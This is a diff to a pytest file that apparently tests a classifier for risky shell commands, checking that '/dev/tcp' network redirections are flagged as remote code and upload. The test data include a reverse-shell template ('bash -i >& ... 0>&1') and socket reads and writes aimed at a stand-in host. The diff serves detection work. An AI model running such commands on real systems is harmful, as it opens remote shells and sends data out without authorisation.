@@ -72,9 +72,10 @@ def test_private_settings_may_be_loaded_but_not_shown():
 
 
 @pytest.mark.parametrize("form", ["cat < {}", "exec 3<>{}", "bash -i >& {} 0>&1", "cat f > {}"])
-def test_network_devices_of_the_shell_are_remote_code(form):
-    """``/dev/tcp`` is a socket, not a file."""
-    assert "remote_code" in risks(form.format("/dev/tcp/h.example/80"))
+def test_network_devices_of_the_shell_carry_data_both_ways(form):
+    """``/dev/tcp`` is a socket, not a file: opened to read, it can be written to all the same."""
+    assert {"remote_code", "upload"} <= risks(form.format("/dev/tcp/h.example/80"))
+    assert "upload" not in risks(form.format("/dev/tcp/localhost/80"))
 
 
 @pytest.mark.parametrize(
